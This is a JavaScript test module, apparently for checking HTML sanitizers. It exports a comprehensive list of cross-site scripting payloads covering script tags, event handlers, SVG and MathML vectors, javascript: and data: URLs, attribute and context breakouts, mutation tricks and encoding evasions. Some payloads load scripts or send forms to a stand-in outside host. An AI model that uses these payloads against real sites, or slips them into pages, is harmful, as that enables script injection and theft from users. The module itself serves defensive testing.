// Texts that become a program wherever a page forgets that they are text. Each calls `volee`, which a trial gives to the page.

const X = 'volee(document.URL)';
/** The same call without a letter that filters look for. */
const UNICODE = '\\u0076olee(1)';
const ENTITES = '&#118;olee&#40;1&#41;';

const BALISES = [
  `<script>${X}</script>`, `<SCRIPT>${X}</SCRIPT>`, `<ScRiPt >${X}</sCrIpT >`, `<script/x>${X}</script>`, `<script\n>${X}</script\n>`,
  `<script type=module>${X}</script>`, `<script type="text/javascript">${X}</script>`, `<script src=data:text/javascript,${X}></script>`,
  `<script src=//ailleurs.example/x.js></script>`, `<script src="/brenne/demandes/nouvelle?x=${X}"></script>`, `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<<script>${X}//<</script>`, `<script>/*<!--*/${X}/*-->*/</script>`, `<!--><script>${X}</script>-->`, `<script nonce="">${X}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<script>eval('${UNICODE}')</script>`, `<svg><script>${X}</script></svg>`,
  `<svg><script>${ENTITES}</script></svg>`, `<math><mtext><script>${X}</script></mtext></math>`,
];

const EVENEMENTS = [
  `<img src=x onerror=${X}>`, `<img src=x onerror="${X}">`, `<img src=x onerror='${X}'>`, `<img/src=x/onerror=${X}>`, `<IMG SRC=x ONERROR=${X}>`,
  `<img src=x onerror=${ENTITES}>`, `<img src=x onerror="${UNICODE}">`, `<img src=x\tonerror\n=\n${X}>`, `<img src=data:, onerror=${X}>`,
  `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=${X}>`, `<image src=x onerror=${X}>`, `<img srcset=x onerror=${X}>`,
  `<picture><source srcset=x><img onerror=${X}></picture>`, `<body onload=${X}>`, `<body onpageshow=${X}>`, `<body onhashchange=${X}>`,
  `<input autofocus onfocus=${X}>`, `<select autofocus onfocus=${X}></select>`, `<textarea autofocus onfocus=${X}></textarea>`,
  `<button autofocus onfocus=${X}>x</button>`, `<a href=# autofocus onfocus=${X}>x</a>`, `<div tabindex=0 autofocus onfocusin=${X}>x</div>`,
  `<details open ontoggle=${X}>x</details>`, `<video src=x onerror=${X}></video>`, `<video><source onerror=${X}></video>`, `<audio src=x onerror=${X}></audio>`,
  `<audio autoplay onplay=${X} src=data:audio/wav;base64,UklGRiQA></audio>`, `<object data=x onerror=${X}></object>`, `<embed src=x onerror=${X}>`,
  `<iframe onload=${X}></iframe>`, `<iframe src=about:blank onload=${X}></iframe>`, `<link rel=stylesheet href=x onerror=${X}>`, `<link rel=stylesheet href=data:, onload=${X}>`,
  `<style onload=${X}></style>`, `<style>@keyframes k{}</style><p style="animation:k" onanimationstart=${X}>x`,
  `<p style="transition:color 1s;color:red" ontransitionend=${X}>x`, `<marquee onstart=${X}>x</marquee>`, `<track onerror=${X}>`,
  `<form onformdata=${X}><input></form>`, `<dialog open onclose=${X}><form method=dialog><button autofocus></form></dialog>`,
  `<p onmouseover=${X} style="position:fixed;inset:0">x`, `<p onpointerenter=${X}>x</p>`, `<b onbeforematch=${X} hidden=until-found>x</b>`, `<p oncontentvisibilityautostatechange=${X} style=content-visibility:auto>x`,
];

const DESSINS = [
  `<svg onload=${X}>`, `<svg/onload=${X}>`, `<svg onload=${ENTITES}>`, `<svg><g onload=${X}></g></svg>`, `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><set onbegin=${X} attributeName=x to=y>`, `<svg><animateTransform onbegin=${X} attributeName=transform>`, `<svg><image href=x onerror=${X}>`,
  `<svg><a href="javascript:${X}"><text y=20>x</text></a></svg>`, `<svg><a><animate attributeName=href values=javascript:${X} /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${X}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><body onload=${X}></foreignObject></svg>`, `<svg><style><img src=x onerror=${X}></style></svg>`, `<svg><desc><img src=x onerror=${X}></desc></svg>`,
  `<math href="javascript:${X}">x</math>`, `<math><maction actiontype="statusline#x" xlink:href="javascript:${X}">x</maction></math>`,
];

const ADRESSES = [
  `javascript:${X}`, `JaVaScRiPt:${X}`, `java\tscript:${X}`, `java\nscript:${X}`, ` javascript:${X}`, `\u0001javascript:${X}`, `javascript&colon;${X}`, `&#106;avascript:${X}`,
  `javascript://%0a${X}`, `javascript:/*https://ailleurs.example*/${X}`, `data:text/html,<script>${X}</script>`, `data:text/html;base64,PHNjcmlwdD52b2xlZSgxKTwvc2NyaXB0Pg==`,
  `vbscript:${X}`, `<a href="javascript:${X}">x</a>`, `<a href=javascript:${X} autofocus>x</a>`, `<iframe src="javascript:parent.${X}"></iframe>`, `<iframe src="data:text/html,<script>parent.${X}</script>"></iframe>`,
  `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.${X}&gt;"></iframe>`, `<object data="javascript:${X}"></object>`,
  `<object data="data:text/html,<script>parent.${X}</script>"></object>`, `<embed src="javascript:${X}">`, `<form action="javascript:${X}"><button autofocus>x</button></form>`,
  `<button form=x formaction="javascript:${X}">x</button>`, `<meta http-equiv=refresh content="0;url=javascript:${X}">`, `<meta http-equiv=refresh content="0;url=//ailleurs.example/">`,
  `<base href="//ailleurs.example/">`, `<link rel=import href=//ailleurs.example/x>`, `<link rel=prefetch href=//ailleurs.example/x>`, `<img src=//ailleurs.example/x>`,
  `<style>@import '//ailleurs.example/x.css';</style>`, `<p style="background:url(//ailleurs.example/x)">x`, `<a ping=//ailleurs.example/ href=#>x</a>`, `<video poster=//ailleurs.example/x></video>`,
];

const SORTIES = [
  `"><script>${X}</script>`, `'><script>${X}</script>`, `"><img src=x onerror=${X}>`, `'><img src=x onerror=${X}>`, `" autofocus onfocus=${X} x="`, `' autofocus onfocus=${X} x='`,
  ` autofocus onfocus=${X} `, `" onload="${X}`, `x" onerror="${X}" src="y`, '`><img src=x onerror=' + X + '>', `--><script>${X}</script><!--`, `--!><script>${X}</script>`,
  `</title><script>${X}</script>`, `</textarea><script>${X}</script>`, `</style><script>${X}</script>`, `</script><script>${X}</script>`, `</noscript><script>${X}</script>`,
  `</select><script>${X}</script>`, `</option></select><img src=x onerror=${X}>`, `</template><script>${X}</script>`, `</iframe><script>${X}</script>`, `</xmp><script>${X}</script>`,
  `]]><script>${X}</script>`, `";${X};//`, `';${X};//`, `\\";${X};//`, `\${${X}}`, `{{constructor.constructor('${X}')()}}`, `{% raw %}<script>${X}</script>{% endraw %}`, `<%= ${X} %>`,
];

const MUTATIONS = [
  `<noscript><style></noscript><img src=x onerror=${X}>`, `<svg></p><style><a id="</style><img src=x onerror=${X}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${X}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${X}>`, `<template><script>${X}</script></template>`, `<template shadowrootmode=open><img src=x onerror=${X}></template>`,
  `<xmp><img title="</xmp><img src=x onerror=${X}>">`, `<listing>&lt;img src=x onerror=${X}&gt;</listing>`, `<table><tr><td><svg onload=${X}>`, `<select><template><img src=x onerror=${X}></template></select>`,
  `<div hx-get="/brenne" hx-trigger="load" hx-on::after-request="${X}">x</div>`, `<div hx-on:load="${X}" hx-trigger="load" hx-get="/">x</div>`, `<div hx-get="//ailleurs.example/" hx-trigger="load">x</div>`,
  `<div data-hx-get="/brenne" data-hx-trigger="load[${X}]">x</div>`, `<form method=post action=//ailleurs.example/ data-une-fois><input autofocus></form>`, `<plaintext><script>${X}</script>`,
];

const CODAGES = [
  `&lt;script&gt;${X}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${X}`, `%3Cscript%3E${X}%3C/script%3E`, `\\x3cscript\\x3e${X}\\x3c/script\\x3e`, `\\u003cimg src=x onerror=${X}\\u003e`,
  `+ADw-script+AD4-${X}+ADw-/script+AD4-`, `＜script＞${X}＜/script＞`, `‹script›${X}‹/script›`, `<\u0000script>${X}</script>`, `<scr\u0000ipt>${X}</scr\u0000ipt>`, `<img src=x one\u0000rror=${X}>`,
  `<\u200bscript>${X}</script>`, `<script\u2028>${X}</script>`, `\u202e>tpircs<${X}<script>${X}</script>`, `\ufeff<script>${X}</script>`, `<img src=x onerror\u000c=${X}>`, `<img\u000csrc=x\u000conerror=${X}>`,
  `<svg\u00a0onload=${X}>`, `<ſcript>${X}</ſcript>`, `<ımg src=x onerror=${X}>`, `\u001b$B<script>${X}</script>`, `<script>${X}\u2029</script>`,
];

export const CHARGES = [...BALISES, ...EVENEMENTS, ...DESSINS, ...ADRESSES, ...SORTIES, ...MUTATIONS, ...CODAGES];

/** The same, several in a text of at most so many characters: a page read once holds many. */
export function groupCharges(longueur) {
  const groups = [''];
  for (const charge of CHARGES.filter((one) => one.length < longueur)) {
    if (groups.at(-1).length + charge.length + 1 > longueur) groups.push('');
    groups.push(`${groups.pop()} ${charge}`.trim());
  }
  return groups;
}
